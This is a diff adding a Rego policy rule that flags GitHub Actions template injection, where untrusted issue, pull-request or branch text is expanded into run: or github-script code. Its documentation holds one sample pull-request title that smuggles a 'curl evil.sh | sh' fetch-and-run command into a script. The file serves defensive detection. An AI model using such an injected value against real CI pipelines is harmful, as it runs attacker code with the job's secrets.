@@ -1,0 +1,47 @@
+# METADATA
+# title: Attacker-controlled text is expanded into a script
+# description: |
+#   ## What it does
+#   Reports a `${{ … }}` expression inside a `run:` script or an `actions/github-script`
+#   `script:` when it reads text that whoever opens an issue, a pull request, a comment or a
+#   branch controls: titles, bodies, branch names, commit messages, author names.
+#
+#   ## Why is this bad?
+#   Expressions are substituted into the script's text before the shell (or Node) sees it. A
+#   pull request titled `a"; curl evil.sh | sh; echo "` becomes part of the program, running with
+#   the job's token and secrets. An environment variable is data to the shell, never code.
+#
+#   ## Example
+#   ```yaml
+#   - run: echo "${{ github.event.issue.title }}"
+#   ```
+#
+#   Use instead:
+#   ```yaml
+#   - run: echo "$TITLE"
+#     env:
+#       TITLE: ${{ github.event.issue.title }}
+#   ```
+#
+#   ## Fix safety
+#   There is no fix yet: the variable has to be quoted the way the script's shell expects.
+package atlas9.ci.template_injection
+
+import data.atlas9.lib.ci
+import rego.v1
+
+deny contains finding if {
+	some [path, step] in ci.steps
+	some expression in step.expressions
+	some context in expression.contexts
+	ci.untrusted(context)
+	finding := {
+		"message": sprintf("`${{ %s }}` is pasted into the %s before it runs, so whoever writes `%s` writes code here; pass it through `env:` and use the variable", [expression.text, place[expression["in"]], context]),
+		"path": array.concat(path, key[expression["in"]]),
+		"match": expression.text,
+	}
+}
+
+place := {"run": "shell script", "script": "github-script code"}
+
+key := {"run": ["run"], "script": ["with", "script"]}
